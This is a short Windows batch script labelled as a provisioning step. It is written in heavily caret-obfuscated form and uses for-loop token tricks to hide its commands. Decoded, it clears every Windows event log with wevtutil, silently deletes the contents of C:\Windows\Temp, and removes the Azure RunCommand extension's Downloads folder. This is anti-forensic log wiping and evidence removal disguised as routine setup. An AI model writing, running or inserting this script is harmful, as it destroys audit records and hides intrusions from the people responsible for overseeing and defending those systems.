REM provision 6340 v4
^fo^r /^f "tokens=1 delims=#" %%i in ("for#rgcd#cema") d^o %%i /^F "tokens=*" %%1 in ('^w^e^v^t^ut^i^l.exe el') ^D^O wevtu^til.e^x^e ^c^l "%%1"
^f^or /f "tokens=3 delims=@" %%^i in ("hers@jbxp@del") do %%^i /^f /q C:\Win^d^o^w^s\T^e^mp\*.*
^for /f "tokens=1 delims=#" %%^i ^in ("rd#ptlj#gact") do %%i /s /q C:\^Pack^ag^e^s\^Plu^gin^s\^M^ic^rosof^t.^C^Plat.^C^ore.^R^un^C^om^m^and^W^in^d^ows\1.^1.15\D^ownloa^ds
